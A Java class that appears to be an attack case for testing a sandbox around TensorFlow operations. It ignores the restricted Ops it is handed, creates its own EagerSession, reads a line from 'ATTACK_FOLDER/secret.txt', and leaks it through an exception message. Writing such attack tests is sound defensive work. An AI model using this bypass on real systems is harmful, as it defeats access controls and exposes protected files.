import java.util.List;
import org.tensorflow.EagerSession;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops handed) throws Throwable {
        // What the handed ones make is recorded, and refused by its type.
        Ops tf = Ops.create(EagerSession.create());
        var lines = tf.data.textLineDataset(tf.constant("ATTACK_FOLDER/secret.txt"), tf.constant(""), tf.constant(0L));
        var iterator = tf.data.anonymousIterator(List.of(TString.class), List.of(Shape.scalar()));
        tf.data.makeIterator(lines, iterator);
        throw new IllegalStateException(((TString) tf.data
                        .iteratorGetNext(iterator, List.of(TString.class), List.of(Shape.scalar()))
                        .iterator()
                        .next()
                        .asTensor())
                .getObject());
    }
}
